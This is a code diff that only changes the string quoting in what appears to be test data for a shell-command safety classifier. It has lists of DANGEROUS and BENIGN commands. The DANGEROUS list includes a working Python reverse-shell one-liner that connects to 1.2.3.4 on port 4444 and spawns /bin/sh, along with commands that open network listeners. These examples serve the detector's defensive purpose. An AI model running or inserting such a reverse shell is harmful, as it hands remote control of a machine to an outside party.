@@ -233,7 +233,7 @@ DANGEROUS: list[tuple[str, str]] = [
     ("python3 -m http.server --bind 0.0.0.0 9000", "network_listener"),
     ("uvicorn app:app --host 0.0.0.0", "network_listener"),
     (
-        "python -c \"import socket,subprocess,os;s=socket.socket();"
+        'python -c "import socket,subprocess,os;s=socket.socket();'
         "s.connect(('1.2.3.4',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\"",
         "network_listener",
     ),
@@ -354,7 +354,7 @@ BENIGN: list[str] = [
     "echo SELECT 1 | psql",
     "grep -c def src/app.py || true",
     "if [ -f package.json ]; then npm ci; fi",
-    "while read -r line; do echo \"$line\"; done < src/app.py",
+    'while read -r line; do echo "$line"; done < src/app.py',
     "[[ -d build ]] && rm -rf build",
     "printf '%s\\n' a b c > /tmp/list.txt",
 ]
